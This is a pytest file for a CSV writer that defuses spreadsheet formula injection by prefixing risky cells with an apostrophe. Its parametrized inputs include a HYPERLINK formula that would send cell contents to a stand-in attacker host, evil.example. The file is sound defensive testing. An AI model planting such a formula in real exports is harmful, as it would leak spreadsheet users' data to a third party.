"""Every CSV coachat writes goes through one writer that makes formulas inert."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from infrastructure.csv_file import csv_bytes, csv_text, neutralised


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?d="&A2;"Relevé")',
        "+33 6 00",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
    ],
)
def test_a_cell_that_could_run_as_a_formula_is_written_as_text(text):
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize("value", ["-4,50", "-4.50", "+12", "12", "Papier A4", "", "a=b"])
def test_numbers_and_plain_text_are_left_alone(value):
    assert neutralised(value) == value


def test_typed_values_are_written_as_they_are():
    assert neutralised(Decimal("-1.20")) == "-1.20"
    assert neutralised(-3) == "-3"
    assert neutralised(None) == ""


def test_the_file_reads_back_with_the_neutralised_cells_and_a_bom():
    data = csv_bytes([["Produit", "Prix"], ["=1+1", "2,10"]])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows == [["Produit", "Prix"], ["'=1+1", "2,10"]]


def test_a_tab_separated_file_without_bom():
    assert csv_text([["a", "=b"]], delimiter="\t", lineterminator="\n") == "a\t'=b\n"
    assert not csv_bytes([["a"]], bom=False).startswith(b"\xef")
